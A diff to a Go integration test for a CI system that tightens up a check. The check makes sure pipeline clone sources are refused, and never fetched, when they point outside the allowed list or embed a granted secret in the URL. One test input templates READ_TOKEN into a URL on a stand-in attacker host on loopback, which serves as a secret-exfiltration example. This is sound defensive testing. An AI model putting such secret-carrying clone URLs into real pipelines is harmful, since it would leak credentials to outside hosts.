@@ -3,10 +3,8 @@ package integration
 import (
 	"context"
 	"fmt"
-	"net"
 	"path/filepath"
 	"strings"
-	"sync/atomic"
 	"testing"
 
 	"github.com/slipwayci/slipway/integration/gitserver"
@@ -138,23 +136,10 @@ tokens:
 		}
 	})
 	// The attacker's host, on loopback: a refused run must never connect to it.
-	attacker, err := net.Listen("tcp", "127.0.0.1:0")
-	must(t, err)
-	defer attacker.Close()
-	var reached atomic.Int32
-	go func() {
-		for {
-			c, err := attacker.Accept()
-			if err != nil {
-				return
-			}
-			reached.Add(1)
-			c.Close()
-		}
-	}()
+	attacker, reached := countConnections(t)
 	for _, tt := range []struct{ name, repo, want string }{
-		{"a clone source that carries a granted secret", "http://" + attacker.Addr().String() + "/{{ .Secrets.READ_TOKEN }}.git", "clone.repo must be written literally"},
-		{"a clone source outside cloneFrom", "http://" + attacker.Addr().String() + "/other.git", "may clone only itself or what cloneFrom lists"},
+		{"a clone source that carries a granted secret", "http://" + attacker.String() + "/{{ .Secrets.READ_TOKEN }}.git", "clone.repo must be written literally"},
+		{"a clone source outside cloneFrom", "http://" + attacker.String() + "/other.git", "may clone only itself or what cloneFrom lists"},
 	} {
 		t.Run(tt.name+" is refused and never fetched", func(t *testing.T) {
 			p := fmt.Sprintf("apiVersion: slipway.dev/v1\nkind: Pipeline\nmetadata: {name: team-a}\non: {push: {branches: [\"**\"]}}\nsecrets: [READ_TOKEN]\n"+
